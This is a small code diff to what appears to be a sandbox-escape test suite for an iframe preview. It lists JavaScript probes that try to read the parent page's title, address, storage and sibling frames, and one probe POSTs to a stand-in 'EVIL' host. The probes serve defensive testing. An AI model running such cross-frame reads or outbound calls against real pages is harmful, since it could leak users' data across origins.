@@ -11,7 +11,7 @@ export const previewAttempts: Readonly<Record<string, string>> = {
   parent: `found(parent.document.title)`,
   'parent-address': `found(parent.location.href)`,
   'parent-storage': `found(parent.localStorage.length)`,
-  'parent-frames': `for (let i = 0; i < parent.length; i++) { try { found(parent[i].document.title) } catch {} }`,
+  'parent-frames': `for (let i = 0; i < parent.length; i++) { try { if (parent[i] !== self) found(parent[i].document.title) } catch {} }`,
   'frame-element': `if (frameElement) found('frameElement')`,
   facts: `for (const text of [location.href, document.referrer, name, document.baseURI, ...(location.ancestorOrigins ?? []), ...performance.getEntries().map(({ name }) => name)]) if (/room\\/|#./.test(text)) found(text)`,
   fetch: `await fetch('EVIL/fetch', { mode: 'no-cors', keepalive: true, body: 'x', method: 'POST' }); found('fetch')`,
